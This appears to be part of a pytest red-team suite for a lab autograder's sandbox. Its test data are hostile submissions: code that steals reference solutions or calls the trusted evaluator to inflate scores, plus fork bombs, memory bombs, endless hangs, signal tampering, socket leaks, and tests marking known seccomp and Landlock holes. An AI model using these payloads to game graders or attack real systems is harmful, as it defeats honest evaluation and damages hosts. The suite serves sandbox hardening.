+    assert "KEY-FOUND" not in g.everything and key not in g.everything
+    arena.assert_unharmed(g.everything)
+
+
+# =====================================================================================================
+# 7. Shipped helpers
+# =====================================================================================================
+
+EVAL_VIA_GRADER = {
+    "importing grader.evaluate at the top": ("from grader import evaluate as _trusted\nfrom grader import toy as _toy\n", '''
+        return _trusted.batch_accuracy_by_length(model, _toy.Batch(src, src_mask, tgt))
+    ''', 0),
+    "reaching grader.evaluate through grader.train and grader.toy": ("import grader.train as _train\nimport grader.toy as _toy\n", '''
+        import importlib
+        _trusted = importlib.import_module(_train.__name__.rpartition(".")[0] + ".evaluate")
+        return _trusted.batch_accuracy_by_length(model, _toy.Batch(src, src_mask, tgt))
+    ''', 2),  # greedy_decode is the student's own, honest: its 2 points stay
+}
+
+
+@pytest.mark.parametrize("how", list(EVAL_VIA_GRADER))
+def test_the_graders_evaluator_cannot_grade_the_evaluation_piece(lab, arena, how):
+    top, body, want = EVAL_VIA_GRADER[how]
+    ref = (REFERENCE / "evaluation.py").read_text()
+    solution = ref[ref.index("    ### BEGIN SOLUTION\n    pred, _ = greedy_decode"):ref.rindex("    ### END SOLUTION")]
+    src = hostile("evaluation", arena, top=top, call="",
+                  edits=((solution, "    _payload()\n" + indent(dedent(body), "    ")),))
+    g = judge(lab(files={"evaluation": src}), ["evaluation", "decoder"])
+    assert g.score("evaluation") == want, g.messages("evaluation")
+    full_marks(g, "decoder")
+    arena.assert_unharmed(g.everything)
+
+
+def test_a_decoder_cannot_import_the_reference_decoder(lab, arena):
+    end = '''
+        import importlib, sys, types
+
+        def _steal():
+            for name in ("reference.decoder", "attnlab_reference.decoder", "grader.cases.test_decoder"):
+                try:
+                    mod = importlib.import_module(name)
+                    if hasattr(mod, "Seq2SeqAttn"):
+                        return mod
+                except BaseException as e:
+                    print("no", name, type(e).__name__)
+            for mod in list(sys.modules.values()):
+                if getattr(mod, "Seq2SeqAttn", None) is not None and mod is not sys.modules[__name__]:
+                    return mod
+            try:
+                ns = {"__name__": __name__ + "_stolen", "__package__": __package__}
+                exec(open(LAB + "/reference/decoder.py").read(), ns)
+                return types.SimpleNamespace(**ns)
+            except BaseException as e:
+                print("no file", type(e).__name__)
+            return None
+
+        _payload()
+        _stolen = _steal()
+        if _stolen is not None:
+            AttnDecoder, Seq2SeqAttn = _stolen.AttnDecoder, _stolen.Seq2SeqAttn
+    '''
+    src = hostile("decoder", arena, base=EXERCISES, end=end)
+    g = judge(lab(files={"decoder": src}), ["decoder", "encoder"])
+    assert g.score("decoder") == 0, g.messages("decoder")
+    full_marks(g, "encoder")
+    arena.assert_unharmed(g.everything)
+
+
+# =====================================================================================================
+# 8. Points for wrong values
+# =====================================================================================================
+
+def test_a_constant_context_earns_no_no_loop_points(lab, arena):
+    zeros = "    _payload()\n    return encoder_outputs.new_zeros(alpha.size(0), encoder_outputs.size(-1))\n"
+    g = judge(lab(files={"context": hostile("context", arena, edits=((CONTEXT_SOLUTION, zeros),))}), ["context", "luong"])
+    assert g.score("context") == 0
+    assert "test_it_runs_no_python_loop_over_positions" in g.messages("context")
+    full_marks(g, "luong")
+    arena.assert_unharmed(g.everything)
+
+
+def test_a_decoder_with_the_right_shapes_and_wrong_values_scores_nothing(lab, arena):
+    wrong = (("        return logits, (h, c), alpha\n",
+              "        _payload()\n        return logits * 0, (h * 0, c * 0), torch.full_like(alpha, 1.0 / alpha.size(-1))\n"),)
+    g = judge(lab(files={"decoder": hostile("decoder", arena, edits=wrong)}), ["decoder", "encoder"])
+    assert g.score("decoder") == 0, g.messages("decoder")
+    full_marks(g, "encoder")
+    arena.assert_unharmed(g.everything)
+
+
+# =====================================================================================================
+# 9. Resource abuse
+# =====================================================================================================
+
+def test_a_fifty_gigabyte_allocation_costs_only_the_piece(lab, arena):
+    call = "_payload()\n_hog = torch.empty(50 * 2**30, dtype=torch.uint8)\n_hog.fill_(1)\n"
+    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"], LOOSE)
+    assert g.score("context") == 0
+    assert any("out of memory" in m for m in g.messages("context").values()), g.messages("context")
+    full_marks(g, "luong")
+    arena.assert_unharmed(g.everything)
+
+
+def test_a_caught_memory_bomb_keeps_its_points_and_hurts_nobody(lab, arena):
+    call = '''
+        _payload()
+        try:
+            torch.empty(50 * 2**30, dtype=torch.uint8).fill_(1)
+        except BaseException:
+            pass
+        _chunks = []
+        try:
+            while True:
+                _chunks.append(torch.empty(512 * 2**20, dtype=torch.uint8))
+        except (MemoryError, RuntimeError):
+            pass
+        del _chunks
+    '''
+    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"], LOOSE)
+    full_marks(g, "context", "luong")
+    arena.assert_unharmed(g.everything)
+
+
+def test_a_fork_bomb_goes_nowhere(lab, arena):
+    call = '''
+        _payload()
+        import multiprocessing
+        for _ in range(200):
+            try:
+                if _os.fork() == 0:
+                    _os.write(1, b"FORKED\\n")
+                    while True:
+                        _os.fork()
+            except OSError:
+                pass
+        try:
+            multiprocessing.get_context("fork").Process(target=print, args=("FORKED",)).start()
+        except BaseException:
+            pass
+        try:
+            _os.posix_spawnp("sh", ["sh", "-c", "echo FORKED; touch " + MARK + ".bomb"], {})
+        except OSError:
+            pass
+    '''
+    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"], LOOSE)
+    full_marks(g, "context", "luong")
+    assert "FORKED" not in g.output
+    arena.assert_unharmed(g.everything)
+
+
+HANGS = {
+    "an endless loop": "while True:\n    pass\n",
+    "sleeping forever": "import time as _time\n_time.sleep(10**6)\n",
+    "an endless loop with every signal blocked or ignored": '''
+        for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGALRM, _signal.SIGXCPU, _signal.SIGHUP):
+            _signal.signal(_s, _signal.SIG_IGN)
+        _signal.pthread_sigmask(_signal.SIG_BLOCK, _signal.valid_signals())
+        while True:
+            pass
+    ''',
+    "a runaway recursion past a raised limit": '''
+        import sys as _sys
+        _sys.setrecursionlimit(10**8)
+        def _down(n):
+            return _down(n + 1) + 1
+        _down(0)
+    ''',
+}
+
+
+@pytest.mark.parametrize("what", list(HANGS))
+def test_a_hang_or_a_crash_costs_only_its_own_case(lab, arena, what):
+    """The hostile code runs only in the B=1 edge case: that case alone is lost, within its deadline."""
+    call = "_payload()\nif alpha.size(0) == 1:\n" + indent(dedent(HANGS[what]), "    ")
+    start = time.monotonic()
+    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"], LOOSE)
+    assert time.monotonic() - start < 40
+    assert list(g.messages("context")) == [EDGE_B1], g.messages("context")
+    assert g.score("context") == FULL["context"] - 1
+    full_marks(g, "luong")
+    arena.assert_unharmed(g.everything)
+
+
+ABORTS = {
+    "KeyboardInterrupt": ("raise KeyboardInterrupt", None),
+    "SystemExit": ("raise SystemExit(0)", "sys.exit"),
+    "GeneratorExit": ("raise GeneratorExit", "GeneratorExit"),
+    "a BaseException subclass": ("class _Escape(BaseException):\n    pass\nraise _Escape('out')", "_Escape"),
+    "os._exit(0)": ("_os._exit(0)", "exited early"),
+    "SIGKILL to itself": ("_signal.raise_signal(_signal.SIGKILL)", "ended before answering"),
+    "os.abort()": ("_os.abort()", "SIGABRT"),
+}
+ABORTS_ANY = {"a tiny recursion limit": "import sys as _sys\n_sys.setrecursionlimit(40)"}
+
+
+@pytest.mark.parametrize("what", list(ABORTS) + list(ABORTS_ANY))
+@pytest.mark.parametrize("when", ["call", "import"])
+def test_an_abort_costs_only_the_piece(lab, arena, what, when):
+    code, cause = ABORTS[what] if what in ABORTS else (ABORTS_ANY[what], None)
+    if when == "call":
+        src = hostile("context", arena, call="_payload()\n" + code + "\n")
+    else:
+        src = hostile("context", arena, end="_payload()\n" + code + "\n")
+    g = judge(lab(files={"context": src}), ["context", "luong"], LOOSE)
+    if what in ABORTS_ANY:
+        assert g.score("context") <= FULL["context"]  # whatever the worker can still send, nothing is inflated
+    else:
+        assert g.score("context") == 0, g.messages("context")
+    msgs = g.messages("context").values()
+    assert all(msgs)
+    if cause and g.score("context") == 0:
+        assert any(cause in m for m in msgs), list(msgs)
+    full_marks(g, "luong")
+    arena.assert_unharmed(g.everything)
+
+
+def test_signal_handlers_and_alarms_in_the_worker_change_nothing(lab, arena):
+    top = '''
+        def _boom(*a):
+            raise SystemExit("alarm")
+        for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGUSR1, _signal.SIGPIPE):
+            _signal.signal(_s, _signal.SIG_IGN)
+        _signal.signal(_signal.SIGALRM, _boom)
+        _signal.setitimer(_signal.ITIMER_VIRTUAL, 3600)
+        _signal.alarm(3600)
+        _signal.pthread_sigmask(_signal.SIG_BLOCK, {_signal.SIGUSR2, _signal.SIGCHLD})
+    '''
+    g = judge(lab(files={"context": hostile("context", arena, top=top, call="_payload()\n")}), ["context", "luong"], LOOSE)
+    full_marks(g, "context", "luong")
+    arena.assert_unharmed(g.everything)
+
+
+# =====================================================================================================
+# 10. Network
+# =====================================================================================================
+
+def test_the_worker_cannot_open_a_socket(lab, arena):
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    port = listener.getsockname()[1]
+    call = f'''
+        _payload()
+        import socket as _socket
+        for _try in (
+            lambda: _socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"LEAK"),
+            lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(b"LEAK", ("127.0.0.1", {port})),
+            lambda: _socket.socket(_socket.AF_UNIX).connect("\\0attnlab-redteam"),
+            lambda: _socket.socket(_socket.AF_INET6).connect(("::1", {port})),
+        ):
+            try:
+                _try()
+                print("SOCKET-OPENED")
+            except OSError:
+                pass
+    '''
+    try:
+        g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"])
+        listener.settimeout(0.2)
+        with pytest.raises(socket.timeout):
+            listener.accept()
+    finally:
+        listener.close()
+    full_marks(g, "context", "luong")
+    assert "SOCKET-OPENED" not in g.output
+    arena.assert_unharmed(g.everything)
+
+
+# =====================================================================================================
+# Holes that reach past the worker: each test shows one, marked until the jail closes it
+# =====================================================================================================
+
+SIGIO_KILL = '''
+    _payload()
+    import fcntl as _fcntl
+    try:
+        _r, _w = _os.pipe()
+        _fcntl.fcntl(_r, _fcntl.F_SETOWN, SENTINEL)
+        _fcntl.fcntl(_r, 10, _signal.SIGKILL)  # F_SETSIG: the signal the kernel sends the owner on I/O
+        _fcntl.fcntl(_r, _fcntl.F_SETFL, _fcntl.fcntl(_r, _fcntl.F_GETFL) | _os.O_ASYNC)
+        _os.write(_w, b"x")
+    except OSError:
+        pass
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="HOLE: fcntl F_SETOWN + F_SETSIG + O_ASYNC on a pipe lets the worker send "
+                   "SIGKILL to any process (jail.py's seccomp filter only looks at kill/tgkill/...)")
+def test_a_piece_cannot_signal_another_process_through_fcntl(lab, arena):
+    g = judge(lab(files={"context": hostile("context", arena, call=SIGIO_KILL)}), ["context", "luong"])
+    full_marks(g, "context", "luong")
+    time.sleep(0.2)
+    arena.assert_unharmed(g.everything)
+
+
+@pytest.mark.xfail(strict=True, reason="HOLE: prlimit64, setpriority and sched_setaffinity on other pids are not "
+                   "filtered, so a worker can lower any process's limits (its fork server's, say) or renice it")
+def test_a_piece_cannot_change_another_processes_limits_or_priority(lab, arena):
+    pid = arena.sentinel.pid
+    before = (resource.prlimit(pid, resource.RLIMIT_NOFILE), resource.prlimit(pid, resource.RLIMIT_CPU),
+              os.getpriority(os.PRIO_PROCESS, pid), os.sched_getaffinity(pid))
+    call = '''
+        _payload()
+        import resource as _resource
+        for _try in (lambda: _resource.prlimit(SENTINEL, _resource.RLIMIT_NOFILE, (3, 3)),
+                     lambda: _resource.prlimit(SENTINEL, _resource.RLIMIT_CPU, (1, 1)),
+                     lambda: _os.setpriority(_os.PRIO_PROCESS, SENTINEL, 19),
+                     lambda: _os.sched_setaffinity(SENTINEL, {0})):
+            try:
+                _try()
+            except OSError:
+                pass
+    '''
+    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"])
+    full_marks(g, "context", "luong")
+    arena.assert_unharmed(g.everything)
+    after = (resource.prlimit(pid, resource.RLIMIT_NOFILE), resource.prlimit(pid, resource.RLIMIT_CPU),
+             os.getpriority(os.PRIO_PROCESS, pid), os.sched_getaffinity(pid))
+    assert after == before
+
+
+@pytest.mark.xfail(strict=True, reason="HOLE: Landlock does not govern chmod/chown/utime/xattrs and seccomp does "
+                   "not filter them, so a worker can change the metadata of any file it can name")
+def test_a_piece_cannot_change_file_metadata(lab, arena, tmp_path):
+    victim = tmp_path / "victim.txt"
+    victim.write_text("untouched\n")
+    victim.chmod(0o640)
+    os.utime(victim, (1_000_000_000, 1_000_000_000))
+    before = victim.stat()
+    call = f'''
+        _payload()
+        for _try in (lambda: _os.chmod({str(victim)!r}, 0o777), lambda: _os.utime({str(victim)!r}, (0, 0)),
+                     lambda: _os.chown({str(victim)!r}, 65534, 65534),
+                     lambda: _os.setxattr({str(victim)!r}, "user.pwned", b"1")):
+            try:
+                _try()
+            except OSError:
+                pass
+    '''
+    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"])
+    full_marks(g, "context", "luong")
+    arena.assert_unharmed(g.everything)
+    after = victim.stat()
+    assert (after.st_mode, after.st_mtime, after.st_uid, after.st_gid) == (before.st_mode, before.st_mtime,
+                                                                         before.st_uid, before.st_gid)
+    assert victim.read_text() == "untouched\n"
+
+
+SIBLING_LEAK = '''
+import sys as _sys
+
+_f = _sys._getframe()
+while _f is not None:  # Worker.load holds every module it was sent: the reference's earlier pieces included
+    _mods = _f.f_locals.get("modules")
+    for (_stem, _text) in (_mods if isinstance(_mods, (list, tuple)) else []):
+        if _stem != __name__.rpartition(".")[2] and isinstance(_text, str):
+            _body = _text.split("### BEGIN SOLUTION", 1)[-1].split("### END SOLUTION", 1)[0]
+            for _line in _body.strip().splitlines():
+                print(_line.strip())
+    _f = _f.f_back
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="HOLE: a worker is sent the reference's source of the pieces before its own "
+                   "(remote.student_sources), so a later piece can print earlier pieces' solutions into the report")
+def test_a_later_piece_cannot_print_the_reference_of_an_earlier_one(lab, arena):
+    g = judge(lab(files={"context": hostile("context", arena, end=SIBLING_LEAK, call="_payload()\n")}), ["context", "luong"])
+    full_marks(g, "context", "luong")
+    arena.assert_unharmed(g.everything)
